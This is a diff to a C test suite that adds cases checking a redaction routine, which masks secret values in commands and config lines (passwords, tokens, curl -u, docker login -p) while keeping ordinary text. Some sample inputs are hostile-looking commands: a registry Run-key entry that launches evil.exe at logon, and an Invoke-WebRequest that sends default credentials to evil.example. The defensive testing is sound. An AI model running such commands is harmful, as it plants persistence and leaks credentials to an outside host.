@@ -141,6 +141,60 @@ static void test_redaction(void)
     sp_buf_fini(&b);
 }
 
+/* Secret names are recognised by their last word (split on _ . - and
+ * camelCase), not only when they equal a list entry: prefixed and
+ * compound names, PowerShell variables, flags, curl -u and docker login
+ * -p.  Names that merely contain a secret word keep their values. */
+static void test_redaction_names(void)
+{
+    redacts("set DB_PASSWORD=Hunter2Secret", "Hunter2Secret", "DB_PASSWORD=");
+    redacts("export MYSQL_PWD=Hunter2Secret", "Hunter2Secret", "export");
+    redacts("AZURE_CLIENT_SECRET=abcDEF123456", "abcDEF123456",
+            "AZURE_CLIENT_SECRET");
+    redacts("GITHUB_TOKEN=abcdefgh12345", "abcdefgh12345", "GITHUB_TOKEN");
+    redacts("SECRET_KEY=S3cret", "S3cret", "SECRET_KEY");
+    redacts("$env:DB_PASSWORD='S3cret'; .\\run.ps1", "S3cret", "run.ps1");
+    redacts("$dbPassword = 'S3cret'", "S3cret", "$dbPassword");
+    redacts("--db-password=S3cret --host db01", "S3cret", "--host db01");
+    redacts("Install.ps1 -AdminPassword S3cret -Verbose", "S3cret",
+            "-Verbose");
+    redacts("docker login -u me -p S3cret registry.example", "S3cret",
+            "registry.example");
+    redacts("curl -u admin:S3cretPass http://x", "S3cretPass",
+            "curl -u admin:");
+    redacts("curl --user admin:S3cretPass http://x", "S3cretPass",
+            "http://x");
+    redacts("curl -uadmin:S3cretPass http://x", "S3cretPass", "http://x");
+    redacts("spring.datasource.password=S3cret", "S3cret", "datasource");
+    redacts("$PassWord = 'S3cret'", "S3cret", NULL);
+    redacts("ApiKey: S3cretValue", "S3cretValue", NULL);
+    redacts("X-Auth-Token: S3cretValue", "S3cretValue", NULL);
+    redacts("set DB_PASSWORD2=Hunter2Secret", "Hunter2Secret", NULL);
+    redacts("set PASSWORD=S3cret", "S3cret", "set PASSWORD=");
+    /* Names and flags that only contain a secret word, and keys that are
+     * not secret keys: their values are analysis. */
+    redacts("keyboard=us monkey=1 passthru=yes bypass=on hotkey=F5", NULL,
+            "keyboard=us monkey=1 passthru=yes bypass=on hotkey=F5");
+    redacts("powershell -ExecutionPolicy Bypass -PassThru -File a.ps1", NULL,
+            "-ExecutionPolicy Bypass -PassThru -File a.ps1");
+    redacts("Tokens used 5120 of 8000, tokens=5 passes=2", NULL,
+            "Tokens used 5120 of 8000, tokens=5 passes=2");
+    redacts("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion"
+            "\\Run /v Run /t REG_SZ /d C:\\x\\evil.exe /f", NULL,
+            "/v Run /t REG_SZ /d C:\\x\\evil.exe /f");
+    redacts("New-Item -Key 'HKCU:\\Software\\Classes\\x' -Force", NULL,
+            "-Key 'HKCU:\\Software\\Classes\\x'");
+    redacts("Get-FileHash -Algorithm SHA256 C:\\x\\a.exe | Select Hash; "
+            "Hash: 5F4DCC3B5AA765D61D8327DEB882CF99", NULL,
+            "Hash: 5F4DCC3B5AA765D61D8327DEB882CF99");
+    redacts("Invoke-WebRequest -UseDefaultCredentials http://evil.example/x",
+            NULL, "http://evil.example/x");
+    redacts("docker run -p 8080:80 nginx && curl -u :x http://y", NULL,
+            "docker run -p 8080:80 nginx");
+    redacts("PasswordLastSet=2024-01-01 --password-file /run/pw", NULL,
+            "PasswordLastSet=2024-01-01 --password-file /run/pw");
+}
+
 /* ---- context, fencing, anonymization ------------------------------------ */
 
 static void test_context_fencing(void)
@@ -1280,6 +1334,7 @@ int main(void)
         fprintf(stderr, "  note: %s\n", fake.why);
 
     T_RUN(test_redaction);
+    T_RUN(test_redaction_names);
     T_RUN(test_context_fencing);
     T_RUN(test_anonymization);
     T_RUN(test_anonymized_job_roundtrip);
